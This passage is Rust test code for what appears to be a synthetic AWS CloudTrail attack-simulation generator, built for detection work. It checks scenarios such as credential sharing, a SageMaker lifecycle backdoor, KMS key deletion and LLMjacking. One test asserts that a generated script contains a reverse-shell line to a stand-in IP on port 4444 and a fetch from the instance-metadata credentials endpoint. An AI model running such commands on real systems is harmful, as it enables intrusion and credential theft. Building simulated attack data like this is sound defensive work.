        assert!(selectors < stop && stop < delete);
        assert_eq!(
            recs[selectors]["requestParameters"]["eventSelectors"][0]["includeManagementEvents"],
            false
        );
        assert!(recs.iter().all(ok));
    }

    #[test]
    fn one_key_from_many_places() {
        let recs = attack("credential-sharing");
        let key = str_of(&recs[0], &["userIdentity", "accessKeyId"]);
        let shared: Vec<&Value> = recs
            .iter()
            .filter(|r| str_of(r, &["userIdentity", "accessKeyId"]) == key)
            .collect();
        let ips: BTreeSet<&str> = shared
            .iter()
            .map(|r| str_of(r, &["sourceIPAddress"]))
            .collect();
        let agents: BTreeSet<&str> = shared
            .iter()
            .map(|r| {
                str_of(r, &["userAgent"])
                    .trim_matches(['[', ']'])
                    .split(" md/command")
                    .next()
                    .unwrap()
            })
            .collect();
        assert!(ips.len() >= 4, "{ips:?}");
        assert!(agents.len() >= 3, "{agents:?}");
        let span = time(shared[shared.len() - 1]) - time(shared[0]);
        assert!(span < Duration::hours(1));
        let create = &recs[position(&recs, "CreateAccessKey")];
        assert_eq!(create["requestParameters"]["userName"], "alice.chen");
        assert_ne!(create["userIdentity"]["userName"], "alice.chen");
        let new_key = str_of(create, &["responseElements", "accessKey", "accessKeyId"]);
        assert!(recs
            .iter()
            .any(|r| str_of(r, &["userIdentity", "accessKeyId"]) == new_key));
    }

    #[test]
    fn lifecycle_backdoor_attached_and_opened() {
        let recs = attack("sagemaker-lifecycle-backdoor");
        let create = position(&recs, "CreateNotebookInstanceLifecycleConfig");
        let update = position(&recs, "UpdateNotebookInstance");
        let url = position(&recs, "CreatePresignedNotebookInstanceUrl");
        assert!(create < update && update < url);
        let content = recs[create]["requestParameters"]["onStart"][0]["content"]
            .as_str()
            .unwrap();
        let script = lifecycle_script("192.0.2.95");
        assert_eq!(content, base64(script.as_bytes()));
        assert!(
            script.contains("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
        );
        assert!(script.contains("bash -i >& /dev/tcp/192.0.2.95/4444 0>&1"));
        assert_eq!(
            recs[update]["requestParameters"]["lifecycleConfigName"],
            recs[create]["requestParameters"]["notebookInstanceLifecycleConfigName"]
        );
        let arn = str_of(&recs[url], &["userIdentity", "arn"]);
        let url_ip = str_of(&recs[url], &["sourceIPAddress"]);
        assert!(recs[..url]
            .iter()
            .filter(|r| str_of(r, &["userIdentity", "arn"]) == arn)
            .all(|r| str_of(r, &["sourceIPAddress"]) != url_ip));
        let synth = Synth::new(SynthConfig::default());
        assert_ne!(
            synth
                .principal("dana.kim@acme.example")
                .unwrap()
                .source_ip(),
            url_ip
        );
    }

    #[test]
    fn training_key_disabled_and_scheduled_for_deletion() {
        let recs = attack("kms-key-deletion");
        let disable = position(&recs, "DisableKey");
        let schedule = position(&recs, "ScheduleKeyDeletion");
        assert!(disable < schedule);
        let key = format!("arn:aws:kms:us-east-1:111122223333:key/{TRAINING_KEY_ID}");
        assert_eq!(recs[disable]["requestParameters"]["keyId"], key.as_str());
        assert_eq!(recs[schedule]["requestParameters"]["keyId"], key.as_str());
        assert_eq!(recs[schedule]["resources"][0]["ARN"], key.as_str());
        let at = time(&recs[disable]);
        let scenario = all("kms-key-deletion", &with_background(3000));
        let uses: Vec<&Value> = scenario
            .iter()
            .filter(|r| {
                r["eventSource"] == "kms.amazonaws.com"
                    && r["requestParameters"]["keyId"] == key.as_str()
            })
            .filter(|r| r["userIdentity"]["type"] == "AWSService")
            .collect();
        assert!(uses.iter().any(|r| time(r) < at && ok(r)));
        let after: Vec<&&Value> = uses.iter().filter(|r| time(r) > at).collect();
        assert!(!after.is_empty());
        assert!(after.iter().all(|r| !ok(r)));
        assert!(after
            .iter()
            .any(|r| r["errorCode"] == "KMSInvalidStateException"));
    }

    #[test]
    fn policy_matches_the_simulated_organisation() {
        let models = policy_list("approved_models");
        let mut synth = Synth::new(SynthConfig::default());
        for _ in 0..20_000 {
            let rec = synth.benign();
            if let Some(model) = rec["requestParameters"]["modelId"].as_str() {
                assert!(models.iter().any(|m| wildcard_match(m, model)), "{model}");
            }
            let source = str_of(&rec, &["eventSource"]);
            if source == BEDROCK || source == SAGEMAKER {
                let arn = str_of(&rec, &["userIdentity", "arn"]);
                assert!(approved(arn), "{arn}");
                let issuer = &rec["userIdentity"]["sessionContext"]["sessionIssuer"]["arn"];
                if let Some(issuer) = issuer.as_str() {
                    assert!(approved(issuer), "{issuer}");
                }
            }
        }
        let llmjacking = attack("llmjacking");
        assert!(!approved(str_of(&llmjacking[0], &["userIdentity", "arn"])));
        for model in [OPUS, SONNET3, CLAUDE2] {
            assert!(!models.iter().any(|m| wildcard_match(m, model)), "{model}");
        }
        assert!(policy_list("training_buckets")
            .iter()
            .any(|b| wildcard_match(b, TRAINING_BUCKET)));
        assert!(policy_list("ai_accounts").contains(&"111122223333".to_string()));
        assert!(policy_list("allowed_regions").contains(&"us-east-1".to_string()));
        assert!(!policy_list("trusted_accounts").contains(&OUTSIDE_ACCOUNT.to_string()));
    }

    #[test]
    fn base64_matches_the_standard() {
        assert_eq!(base64(b""), "");
        assert_eq!(base64(b"f"), "Zg==");
        assert_eq!(base64(b"fo"), "Zm8=");
        assert_eq!(base64(b"foo"), "Zm9v");
        assert_eq!(base64(b"foob"), "Zm9vYg==");
        assert_eq!(base64(b"fooba"), "Zm9vYmE=");
        assert_eq!(base64(b"foobar"), "Zm9vYmFy");
    }
}
